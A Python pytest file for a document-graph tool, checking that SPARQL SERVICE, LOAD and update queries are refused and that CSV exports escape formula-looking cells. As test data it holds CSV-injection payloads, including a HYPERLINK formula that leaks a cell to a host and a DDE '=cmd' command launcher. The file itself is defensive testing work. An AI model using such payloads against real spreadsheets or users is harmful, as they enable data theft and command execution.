"""No outbound network from any feature: SPARQL SERVICE, LOAD and updates are refused (a listener
on 127.0.0.1 proves nothing calls it), and CSV exports keep formula-looking cells as text."""

import csv
import shutil
import socket
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path

import networkx as nx
import openpyxl
import pytest
from click.testing import CliRunner

from api.cli import cli
from graph.backends import open_store
from graph.ingest import ingest_paths
from graph.rdf import export as export_graph
from graph.sparql import run_sparql
from tests.conftest import SEEDS


@pytest.fixture
def listener() -> Iterator[tuple[str, list[bytes]]]:
    """An HTTP-ish listener on 127.0.0.1 recording every connection made to it."""
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    calls: list[bytes] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except TimeoutError:
                continue
            with conn:
                conn.settimeout(2)
                try:
                    calls.append(conn.recv(4096))
                    conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/sparql-results+json\r\n"
                                 b"Content-Length: 45\r\n\r\n{\"head\":{\"vars\":[]},\"results\":{\"bindings\":[]}}")  # fmt: skip
                except OSError:
                    pass

    t = threading.Thread(target=serve, daemon=True)
    t.start()
    yield f"http://127.0.0.1:{server.getsockname()[1]}", calls
    stop.set()
    t.join(5)
    server.close()


def _graph() -> nx.MultiDiGraph:
    G = nx.MultiDiGraph()
    G.add_node("a", number="1/KH-UBND", title="Kế hoạch", status="ingested", level="province")
    return G


@pytest.mark.parametrize(
    ("query", "word"),
    [
        ("SELECT * WHERE { SERVICE <{url}/sparql> { ?s ?p ?o } }", "SERVICE"),
        ("select * where { service   <{url}/sparql> { ?s ?p ?o } }", "SERVICE"),
        ("SELECT * WHERE { ?x ?y ?z . SERVICE SILENT <{url}/q> { ?s ?p ?o } }", "SERVICE"),
        ("LOAD <{url}/data.ttl>", "LOAD"),
        ("INSERT DATA { <{url}/a> <{url}/b> <{url}/c> }", "INSERT"),
        ("DELETE WHERE { ?s ?p ?o }", "DELETE"),
        ("CLEAR ALL", "CLEAR"),
    ],
)
def test_network_and_updates_refused(listener: tuple[str, list[bytes]], query: str, word: str) -> None:
    url, calls = listener
    with pytest.raises(ValueError, match=f"SPARQL {word} is refused"):
        run_sparql(_graph(), query.replace("{url}", url))
    assert calls == []


def test_keywords_inside_strings_iris_and_comments_are_fine() -> None:
    rows = run_sparql(
        _graph(),
        'SELECT ?k WHERE { ?d lin:key ?k FILTER(?k != "SERVICE LOAD") FILTER(?d != <http://x/DELETE>) } # INSERT',
    )
    assert rows == [{"k": "a"}]


def test_cli_sparql_service_is_refused(tmp_path: Path, listener: tuple[str, list[bytes]]) -> None:
    url, calls = listener
    db = tmp_path / "s.db"
    with open_store(db) as store:
        ingest_paths(store, [SEEDS])
    result = CliRunner().invoke(cli, ["sparql", f"SELECT * WHERE {{ SERVICE <{url}/sparql> {{ ?s ?p ?o }} }}",
                                      "--db", str(db)])  # fmt: skip
    assert result.exit_code == 1 and "SPARQL SERVICE is refused" in result.output
    assert calls == []


HOSTILE = ['=HYPERLINK("http://127.0.0.1:9/?"&A2,"bấm vào đây")', "+1+2", "-3+4", "@SUM(1,2)", "\tx", "\rx"]


def _hostile_graph() -> nx.MultiDiGraph:
    G = nx.MultiDiGraph()
    for i, title in enumerate(HOSTILE):
        G.add_node(f"k{i}", number=f"{i}/KH", title=title, issuer="=1+1", status="ingested")
    G.add_edge("k0", "k1", key="implements", relation="implements", confidence=1.0, status="exact",
               evidence=[{"text": "=cmd|' /C calc'!A0"}])  # fmt: skip
    return G


def test_csv_cells_that_look_like_formulas_are_text(tmp_path: Path) -> None:
    nodes, edges = export_graph(_hostile_graph(), "csv", tmp_path / "out.csv")
    with nodes.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["title"] for r in rows] == ["'" + t for t in HOSTILE]
    assert {r["issuer"] for r in rows} == {"'=1+1"}
    with edges.open(encoding="utf-8-sig", newline="") as fh:
        text = fh.read()
    for row in csv.reader(text.splitlines()):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row


_CALC = Path("/usr/lib/libreoffice/program/libsclo.so")  # the Calc module (libreoffice-calc-nogui)


@pytest.mark.skipif(
    shutil.which("soffice") is None or not _CALC.exists(),
    reason="LibreOffice Calc is not installed (the CSV is read back above)",
)
def test_libreoffice_calc_reads_the_csv_cells_as_text(tmp_path: Path) -> None:
    nodes, _ = export_graph(_hostile_graph(), "csv", tmp_path / "out.csv")
    profile = tmp_path / "lo-profile"
    proc = subprocess.run(
        ["soffice", f"-env:UserInstallation={profile.as_uri()}", "--headless", "--norestore",
         "--infilter=CSV:44,34,76,1", "--convert-to", "xlsx", "--outdir", str(tmp_path), str(nodes)],
        capture_output=True, timeout=180, check=False,
    )  # fmt: skip
    out = tmp_path / (nodes.stem + ".xlsx")
    assert out.exists(), proc.stderr
    sheet = openpyxl.load_workbook(out).active
    assert sheet is not None
    header = [c.value for c in sheet[1]]
    col = header.index("title")
    cells = [row[col] for row in sheet.iter_rows(min_row=2)]
    assert all(c.data_type == "s" for c in cells), [(c.value, c.data_type) for c in cells]
    assert [str(c.value).lstrip("'") for c in cells][:1] == [HOSTILE[0]]
